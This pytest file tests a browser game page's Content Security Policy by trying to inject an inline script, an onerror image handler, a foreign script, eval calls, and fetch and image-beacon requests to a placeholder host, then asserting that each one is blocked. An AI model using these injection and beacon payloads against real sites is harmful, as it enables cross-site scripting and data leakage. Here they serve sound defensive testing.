"""The page under its own security policy: it lacks nothing there, and nothing that is not its own runs or is fetched."""

import re
from collections.abc import Iterator

import pytest

from tests.web.conftest import Sit
from tests.web.harness import Player
from tests.web.serving import serve
from web import build

CDN = "https://cdn.jsdelivr.net/"
# From before the first line of the page on.
WATCH = """window.violations = [];
document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
  violations.push(`${effectiveDirective} ${blockedURI}`);
});"""
# In a turn of its own: what the tests themselves evaluate is under no policy.
LATER = """(what) => new Promise((resolve) => setTimeout(async () => {
  try {
    await what();
    resolve("done");
  } catch (error) {
    resolve(error.name);
  }
}))"""


def advised() -> dict[str, str]:
    """Return the headers that the README tells a host to send with every file."""
    text = (build.WEB / "README.md").read_text(encoding="utf-8").partition("## What a host must send")[2]
    return dict(re.findall(r"^    ([\w-]+): (.*)$", text.partition("\n## ")[0], re.MULTILINE))


@pytest.fixture(scope="module", params=["cdn", "self-hosted"])
def player(request: pytest.FixtureRequest, sit: Sit, shipped: str) -> Iterator[Player]:
    if request.param == "cdn":
        player = sit(shipped)
        player.context.add_init_script(WATCH)
        yield player
    else:
        assert "Content-Security-Policy" in advised()
        files = build.self_hosted(build.archive(build.wheel_files(build.ROOT)))
        with serve(files, advised()) as server:
            player = sit("", served=server.address)
            player.context.add_init_script(WATCH)
            yield player


def attempt(player: Player, code: str) -> str:
    """Return what comes of a function in the page: `done`, or the name of its error."""
    return str(player.look(f"({LATER})({code})"))


def violations(player: Player) -> list[str]:
    """Return what was forbidden since the last look, and what the browser has said of it is no error."""
    player.page.wait_for_timeout(100)
    player.errors.clear()
    found: list[str] = player.look("violations.splice(0)")
    return found


def test_the_page_plays_and_its_policy_forbids_nothing(player: Player) -> None:
    player.start("?test&T&start=table&deal=61")
    player.reaches(screen="table", deal=61)
    player.press("F1", "Escape", "ArrowDown")
    player.check()
    assert violations(player) == []


INLINE = """() => {
  const script = document.createElement("script");
  script.textContent = "window.injected = true";
  document.body.append(script);
}"""
HANDLER = """() => {
  const box = document.createElement("div");
  box.innerHTML = "<img src='data:,' onerror='window.injected = true'>";
  document.body.append(box);
}"""
FOREIGN = """() => {
  const script = document.createElement("script");
  script.src = "https://cdn.jsdelivr.net/npm/any.js";
  document.body.append(script);
}"""


@pytest.mark.parametrize("loaded", [False, True])
def test_a_script_put_into_the_page_does_not_run(player: Player, loaded: bool) -> None:
    player.page.goto(player.address, wait_until="domcontentloaded")
    if loaded:
        player.wait_for(lambda: player.look("retroPyramid.phase") == "waiting", "the page to be ready")
    ways = {
        INLINE: "script-src-elem inline",
        HANDLER: "script-src-attr inline",
        FOREIGN: "script-src-elem https",
    }
    for code, forbidden in ways.items():
        attempt(player, code)
        assert any(one.startswith(forbidden) for one in violations(player)), code
    assert player.look("window.injected") is None


def test_once_all_has_come_no_text_becomes_a_script(player: Player) -> None:
    player.load()
    for code in ("() => eval('1')", "() => new Function('1')", "() => (0, eval)('1')"):
        assert attempt(player, code) == "EvalError"
        assert violations(player) == ["script-src eval"]
    # What Pyxel asks with every frame, and it has no such gamepad here.
    assert (
        attempt(player, "() => { if (eval('_virtualGamepadStates[3];') !== false) throw Error(); }") == "done"
    )
    assert violations(player) == []


def test_nothing_else_is_fetched_and_nothing_sent(player: Player) -> None:
    player.load()
    for address in (f"{CDN}npm/any.js", "https://elsewhere.example/?all"):
        assert attempt(player, f"() => fetch('{address}')") == "TypeError"
        assert violations(player) == [f"connect-src {address}"]
    attempt(player, "() => { new Image().src = 'https://elsewhere.example/?all'; }")
    assert violations(player) == ["img-src https://elsewhere.example/?all"]
